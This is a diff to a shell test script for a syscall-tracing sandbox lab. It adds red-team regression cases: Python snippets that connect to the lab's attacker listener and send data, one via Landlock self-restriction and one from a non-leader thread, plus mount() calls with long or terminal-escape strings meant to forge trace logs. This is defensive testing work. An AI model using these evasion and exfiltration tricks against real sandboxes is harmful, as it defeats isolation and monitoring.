@@ -9,6 +9,8 @@
 # connect() cannot stop the lab's clocks; a restarted blocking connect()
 # waits as the kernel's own; an answer that found nobody is not logged as
 # given; strangers at the attacker's port plant nothing; strings escaped.
+# Round 3: no Landlock rule the lab's connect() would skip; long strings
+# decoded from what was read; a thread's connect() made by the lab.
 set -u
 cd "$(dirname "$0")/.." || exit 1
 source tests/lib.sh
@@ -168,6 +170,45 @@ snippet mntq takeover isolation 'import ctypes
 libc = ctypes.CDLL(None, use_errno=True)
 src = b"\x1b]0;PWNED\x07\nfake\"\\\\x" + b"A" * 10
 print(libc.mount(src, b"/tmp\"), x = 0  (forged", b"ext4\\", 0, None))'
+
+# ---- the red team's findings against the trace (round 3) ----
+# 3: the snippet forbids itself connect() with Landlock, then connects to
+# the attacker: the lab's connect() (made with the lab's own LSM domain)
+# once went through. Landlock is refused ENOSYS while the lab makes
+# connect() itself, so the snippet knows it holds no such rule. Prints
+# "restrict RC ERRNO" and what its connect() got. The red team's ll.py.
+snippet landlock exfil network 'import ctypes, errno, os, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+print("abi", libc.syscall(444, None, 0, 1))
+attr = ctypes.create_string_buffer(struct.pack("QQ", 0, 2))  # LANDLOCK_ACCESS_NET_CONNECT_TCP
+fd = libc.syscall(444, attr, 16, 0)
+libc.prctl(38, 1, 0, 0, 0)
+print("restrict", libc.syscall(446, fd, 0), ctypes.get_errno())
+port = int(os.environ["LAB_ATTACKER"].split(":")[2].split("/")[0])
+try:
+    socket.create_connection(("127.0.0.1", port), timeout=3).sendall(b"x")
+    print("connected")
+except OSError as e:
+    print(errno.errorcode.get(e.errno, e.errno))'
+
+# 4: strings of 60 and 80 bytes: their own first bytes and "...", never
+# the decoding buffer's old contents (the red team's mnt.py)
+snippet mntlong takeover isolation 'import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.mount(b"B" * 60, b"/mnt/target", b"proc", 0, None)
+libc.mount(b"/dev/sda1", b"C" * 80, b"ext4", 0, None)'
+
+# 5: connect() from a thread that is not the group leader: its TID is no
+# pidfd_open() target without PIDFD_THREAD, and the lab once let every such
+# call go on unobserved (the red team's thr.py)
+snippet thread exfil network 'import os, socket, threading
+port = int(os.environ["LAB_ATTACKER"].split(":")[2].split("/")[0])
+def go():
+    s = socket.socket()
+    s.connect(("127.0.0.1", port))
+    s.sendall(b"x"); s.close()
+    print("sent from", threading.get_native_id() != os.getpid() and "a thread")
+t = threading.Thread(target=go); t.start(); t.join()'
 
 # the lab's listening ports (attacker listener, small internet): PID's
 lab_ports() { ss -ltnpH 2>/dev/null | awk -v p="pid=$1," '$0 ~ p { n = split($4, a, ":"); print a[n] }' | sort -u; }
@@ -338,6 +379,34 @@ for who in root nobody; do
 	j=$(cd "$T" && lab run "$T/mntq.py" --on all --json)
 	got=$(py "[bool(__import__('re').fullmatch(r'mount\(\"(?:[^\"\\\\]|\\\\.)*\", \"(?:[^\"\\\\]|\\\\.)*\", \"(?:[^\"\\\\]|\\\\.)*\", 0\)', e['call'])) and 'fake\\\\\"' in e['call'] for e in t if e['call'].startswith('mount(')]" <<<"$j" 2>&1)
 	expect_eq "$who: mount()'s strings: quotes and backslashes escaped, three whole strings" "$got" "[True]"
+
+	# ---- round 3, finding 3: no Landlock rule the lab's connect() skips ----
+	for on in isolation network,env,limits; do
+		j=$(cd "$T" && lab run "$T/landlock.py" --on $on --json)
+		got=$(py "d['output'].split('\\n')[1], [e['line'] for e in t if e['call'].startswith('landlock_restrict_self(')]" <<<"$j" 2>&1)
+		expect_eq "$who: --on $on: landlock_restrict_self() refused ENOSYS while the lab makes connect(), and the snippet got that" "$got" \
+			"('restrict -1 38', ['landlock_restrict_self(-1, 0) = -1 ENOSYS  seccomp (trace: the lab makes connect() itself)'])"
+	done
+	j=$(cd "$T" && LAB_TRACE=0 lab run "$T/landlock.py" --on isolation --json)
+	got=$(py "d['output'].split()[1:]" <<<"$j" 2>&1)
+	if [[ $got == "['-1'"* ]]; then
+		skip "$who: LAB_TRACE=0: the snippet's own Landlock rule" "this kernel has no Landlock (abi -1)"
+	else
+		expect_eq "$who: LAB_TRACE=0: the snippet's Landlock rule holds, its connect() gets EACCES" "${got#*, }" \
+			"'restrict', '0', '0', 'EACCES']"
+	fi
+
+	# ---- round 3, finding 4: long strings show their own prefix ----
+	j=$(cd "$T" && lab run "$T/mntlong.py" --on all --json)
+	got=$(py "[e['call'] for e in t if e['call'].startswith('mount(')]" <<<"$j" 2>&1)
+	expect_eq "$who: mount() with a 60- and an 80-byte string: their own first 47 bytes, then ..." "$got" \
+		"['mount(\"$(printf 'B%.0s' {1..47})...\", \"/mnt/target\", \"proc\", 0)', 'mount(\"/dev/sda1\", \"$(printf 'C%.0s' {1..47})...\", \"ext4\", 0)']"
+
+	# ---- round 3, finding 5: a thread's connect() is made by the lab ----
+	j=$(cd "$T" && lab run "$T/thread.py" --on isolation --json)
+	got=$(py "d['output'].strip(), [(e['result'], e['by']) for e in t if e['call'].startswith('connect(')]" <<<"$j" 2>&1)
+	expect_eq "$who: connect() from a thread: the trace shows the kernel's answer" "$got" \
+		"('sent from a thread', [('0', \"the lab's attacker listener, host network (No-network off)\")])"
 
 	# ---- LAB_TRACE=0: the filter answers itself, nothing listed ----
 	j=$(cd "$T" && LAB_TRACE=0 lab run host-takeover --on all --json)
